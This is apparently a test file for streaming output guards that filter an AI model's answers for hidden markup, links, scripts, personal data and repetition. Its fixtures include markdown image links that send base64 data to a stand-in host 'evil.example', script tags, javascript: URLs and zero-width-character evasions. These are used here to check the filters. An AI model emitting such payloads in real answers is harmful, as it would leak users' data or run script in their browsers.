import { expect } from "chai";
import fc from "fast-check";
import { activeContentInAnswer, activeContentLeft } from "../server/guards/active-content.ts";
import { controlCharacters } from "../server/guards/control-characters.ts";
import { segmentGuard } from "../server/guards/detector.ts";
import { invisibleText, openSequence } from "../server/guards/invisible-text.ts";
import { linksInAnswer } from "../server/guards/links.ts";
import { loopInAnswer } from "../server/guards/loop.ts";
import { topicWords, waitForWords } from "../server/guards/words.ts";
import type { Segment, SegmentGuard } from "../server/pipeline/guard.ts";
import { cut, testGates, throughGate } from "./support/gate.ts";

const fence = "```";
const evil = "https://evil.example/a.png";

/** What would be loaded or run once what is not seen is gone. */
const hidden = [
  `<\u200bimg src="${evil}">`,
  `<i\u200bmg src="${evil}">`,
  "<\u200bimg src=x onerror=alert(1)>",
  `!\u200b[a](${evil})`,
  `![a]\u200b(${evil})`,
  `![a](\u200b${evil})`,
  `${fence}\nx\n\u200b${fence}\n<script>alert(1)</script>\n`,
  `![a][x\u200b]\n\nThere it is.\n\n[x]: ${evil}`,
  `[x\u200b]: ${evil}\n\nThere it is: ![a][x].`,
];

const data = "c2VjcmV0".repeat(10);

/** What would be, once something in it has another thing in its place. */
const joining = [
  `!a@b.io(${evil})`,
  "!a@b.io(//evil.example/a.png)",
  "!heron(//evil.example/a.png)",
  "!<script>(//evil.example/a.png)",
  `!![a](https://evil.example/x.png)(${evil})`,
  `!!!![a](https://evil.example/x.png)(${evil})`,
  `!<img src="https://evil.example/x.png">(${evil})`,
  `!a@b.io\n\nThere it is.\n\n[EMAIL]: ${evil}`,
  `[EMAIL]: ${evil}\n\nThere it is: !a@b.io it is.`,
  `[x]: a.png\n\n![EMAIL] and\n\na@b.io: ${evil}`,
  `[picture withheld]: ${evil}\n\n![x]![a](https://evil.example/x.png)`,
  `![x <b!\n\nso\n\n<img src="${evil}"> y](${evil})`,
  `<img ![a](https://evil.example/x.png)(//evil.example/?q=${data})> src="${evil}">`,
  `![xhttps://evil.example/?q=${data}]:<img ![a](https://evil.example/x.png) so](${evil})`,
  `![xhttps://evil.example/?q=${data}]:<b ![a](https://evil.example/x.png)(//evil.example/?q=${data})> so](${evil})`,
  `![a](https://evil.example/x.png)(//evil.example/?q=${data})`,
  "![a](https://evil.example/x.png)(javascript:alert(1))",
  '<img src="https://evil.example/x.png">(javascript:alert(1))',
  '<img src="https://evil.example/x.png">: javascript:alert(1)',
  "<script>(javascript:alert(1))",
  "<script>: javascript:alert(1)",
  "a@b.io(javascript:alert(1))",
  `![a](${evil} "\`") <script>alert(1)</script> \``,
  `https://evil.example/?q=${data}\` <script>alert(1)</script> \``,
  `so <img alt="\n${fence}\n" src="${evil}"> x\n<script>alert(1)</script>\n${fence}`,
  `so <img alt="\n${fence}\n" src="${evil}"> x\n![x]: javascript:y z](${evil})\n${fence}`,
  `so <img alt="\n${fence}\n" src="${evil}"> x\n![x <b onclick="\n\n"> z](${evil})\n${fence}`,
  `so <img alt="\n${fence}\n" src="${evil}"> x\n<img x="<b y="> onclick=1 "> " src="${evil}">\n${fence}`,
  '[a](javascript:"`") <script>alert(1)</script> `',
];

describe("an answer on its way through its guards", function () {
  this.timeout(60_000);

  it("is judged as it leaves: nothing stands behind what is not seen, however the text is cut", async () => {
    const { output } = await testGates();
    for (const text of [...hidden, ...hidden.map((one) => one.replaceAll("\u200b", "\u0001"))])
      for (const lengths of [[1], [2], [7], [400]]) {
        const out = (await throughGate(cut(text, lengths), output)).left.join("");
        expect(out, `${JSON.stringify(text)}\n${out}`).to.not.match(
          /<img|!\[[^\]]*\]\(https|<script|\[x\]: https[\s\S]*!\[a\]\[x\]|!\[a\]\[x\][\s\S]*\[x\]: https/u,
        );
      }
  });

  it("makes no picture, link or script of what is put in the place of something", async () => {
    const { output } = await testGates({ output: { topics: [{ label: "MERGER", words: ["heron"], action: "mask" }] } });
    for (const text of joining)
      for (const lengths of [[1], [2], [7], [400]]) {
        const out = (await throughGate(cut(text, lengths), output)).left.join("");
        expect(out, `${text}\n${out}`).to.not.match(
          /!\[(?:(?!\n\n)[^[\]]|\[[^[\]]*\])*\]\((?:https|\/\/)|\]\(\/\/evil.example\/\?|\]\(javascript|\]: javascript|!\[EMAIL\][\s\S]*\]: https|\]: https[\s\S]*!\[EMAIL\]|!\[x\]\[|<script|<img x="\[|<img [^>]*src/u,
        );
        if (text.includes("![x")) expect(out).to.not.match(/!\[x(?:(?!\n\n)[^\]])*\[[^\]]*\](?:(?!\n\n)[^\]])*\]\(https/u);
      }
  });

  it("leaves nothing that its guards of links and active content would take", async () => {
    const guards = [
      activeContentInAnswer({ action: "mask" }),
      linksInAnswer({ action: "mask", hosts: [], leavesActive: true }),
      activeContentLeft({ action: "mask" }),
    ];
    const marks = ["`", "``", `\n${fence}\n`, "\n", "\n\n", '"', "'", "<", ">", "[", "]", "](", "]:", "!", "![x", " ", "<b ", "\\"];
    const acting = [
      "<script>",
      " onclick=x>",
      "<img x=",
      ` src="${evil}">`,
      `](${evil})`,
      `](${evil} "`,
      "](javascript:x)",
      "]: javascript:x ",
    ];
    const piece = fc.constantFrom(...joining, ...marks, ...marks, ...acting, ...acting, `https://evil.example/?q=${data}`);
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { minLength: 4, maxLength: 16 }), fc.constantFrom([1], [7], [4_000]), async (pieces, lengths) => {
        const out = (await throughGate(cut(pieces.join(""), lengths), guards)).left.join("");
        const { findings } = await throughGate([out], guards);
        expect(findings, `${JSON.stringify(pieces.join(""))}\n${out}`).to.deep.equal([]);
      }),
      { numRuns: 300 },
    );
  });

  it("keeps code beside what carries nothing", async () => {
    const { output } = await testGates();
    for (const text of [
      "See https://example.com: use `<button onclick=x>`, or [this](https://example.com/a).\n",
      `${fence}python\nif n<a or m:\n  pass\n${fence}\n\n${Array.from({ length: 300 }, (_, day) => `It rained on day ${day}. `).join("")}`,
      `See [this](https://example.com).\n\n${fence}html\n<script>alert(1)</script>\n${fence}\n`,
    ])
      for (const lengths of [[1], [400]]) expect((await throughGate(cut(text, lengths), output)).left.join("")).to.equal(text);
  });

  it("keeps a link whose host was masked, and no picture", async () => {
    const { output } = await testGates();
    const left = async (text: string): Promise<string> => (await throughGate(cut(text, [7]), output)).left.join("");
    expect(await left("Open http://192.168.1.1/admin now.")).to.equal("Open http://[IP_ADDRESS]/admin now.");
    expect(await left("Open [it](http://192.168.1.1:8080/admin) now.")).to.match(/^Open \[it\]\(http:.*\/admin\) now\.$/u);
    expect(await left(`Open http://192.168.1.1/?q=${data} now.`)).to.equal("Open [link withheld] now.");
    expect(await left("Open ![it](http://192.168.1.1/a.png) now.")).to.equal("Open [picture withheld] now.");
  });

  it("is seen by a guard as the guards before left it", async () => {
    const seen: Segment[] = [];
    const topics = [{ label: "MERGER", words: ["heron"], action: "mask" as const }];
    const watching: SegmentGuard = {
      name: "watching",
      wait: (text) => /\(?$/u.exec(text)?.index ?? text.length,
      inspect(segment) {
        seen.push(segment);
        return { action: "pass", findings: [] };
      },
    };
    await throughGate(["a heron", "(", "b", " c"], [segmentGuard("topics", "topic", topicWords(topics), waitForWords(topics)), watching]);
    expect(seen.map(({ before, passage, ahead, last }) => [before, passage.text, ahead, last])).to.deep.equal([
      ["", "a ", "", false],
      ["a ", "[MERGER]", "(", false],
      ["a [MERGER]", "(b", "", false],
      ["a [MERGER](b", " c", "", false],
      ["a [MERGER](b c", "", "", true],
    ]);
    expect(seen.at(-1)?.released.text).to.equal("a [MERGER](b c");
  });

  it("has its findings where the model wrote them, whatever was taken out before", async () => {
    const topics = [{ label: "MERGER", words: ["heron"], action: "mask" as const }];
    const guards = [
      segmentGuard("control_characters", "control_characters", controlCharacters({ runMax: 8 }), openSequence),
      segmentGuard("invisible_text", "invisible_text", invisibleText(), openSequence),
      segmentGuard("topics", "topic", topicWords(topics), waitForWords(topics)),
      loopInAnswer({ repeatsMax: 20 }),
    ];
    const text = `a\u0001b\u200b c her\u0001on and \u200bheron. ${"no ".repeat(200)}`;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 4 }), async (lengths) => {
        const { findings } = await throughGate(cut(text, lengths), guards);
        const stood = (guard: string) => findings.filter((one) => one.guard === guard).map(({ span }) => text.slice(span.start, span.end));
        expect(stood("control_characters")).to.deep.equal(["\u0001", "\u0001"]);
        expect(stood("invisible_text")).to.deep.equal(["\u200b", "\u200b"]);
        expect(stood("topics")).to.deep.equal(["her\u0001on", "heron"]);
        expect(stood("repetition").join()).to.match(/^[no ]+$/u);
      }),
      { numRuns: 50 },
    );
  });

  it("loses what a later guard holds when an earlier one refuses", async () => {
    const topics = [{ label: "MERGER", words: ["heron"], action: "block" as const }];
    const guards = [
      segmentGuard("topics", "topic", topicWords(topics), waitForWords(topics)),
      linksInAnswer({ action: "mask", hosts: [] }),
    ];
    for (const lengths of [[1], [7]]) {
      const { left, blocked } = await throughGate(cut("Well. ![the heron](a.png)", lengths), guards);
      expect([left.join(""), blocked]).to.deep.equal(["Well. ", true]);
    }
  });

  it("takes no longer for each piece the more of it waits: where each end lets another begin, and in a row of numbers, some of which leave", async () => {
    const links = linksInAnswer({ action: "mask", hosts: [] });
    const numbers = (await testGates()).output.find(({ name }) => name === "personal_data");
    for (const [unit, guard, count] of [
      ["1 ", numbers, 500],
      ["\\", links, 400],
      ["](", links, 400],
      ["![a]", links, 200],
      ["!a", links, 400],
    ] as const) {
      if (guard === undefined) throw new Error("No guard sees to personal data.");
      const text = unit.repeat(count);
      const begun = process.cpuUsage();
      const { left } = await throughGate(cut(text, [2]), [guard]);
      expect(process.cpuUsage(begun).user, unit).to.be.below(2_500_000);
      if (guard === numbers)
        expect(
          left.findIndex((piece) => piece !== ""),
          unit,
        ).to.be.below(left.length - 2);
    }
  }).timeout(180_000);

  it("has the same personal data taken out of long rows of numbers, however the text is cut", async () => {
    const numbers = (await testGates()).output.find(({ name }) => name === "personal_data");
    const counted = Array.from({ length: 120 }, (_, index) => index + 1).join(" ");
    const piece = fc.constantFrom(
      counted,
      "0 1 1 0 1 0 0 1 1 1 ",
      "4111 1111 1111 1111",
      "SSN ",
      "call ",
      "1234 5678 ",
      "+49 30 1234567 ",
      "(030) ",
      "x ",
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { minLength: 2, maxLength: 8 }), fc.integer({ min: 1, max: 7 }), async (pieces, length) => {
        const text = pieces.join("");
        const [whole, streamed] = [[text], cut(text, [length])].map(async (one) =>
          (await throughGate(one, numbers === undefined ? [] : [numbers])).left.join(""),
        );
        expect(await streamed).to.equal(await whole);
      }),
      { numRuns: 30 },
    );
  });
});
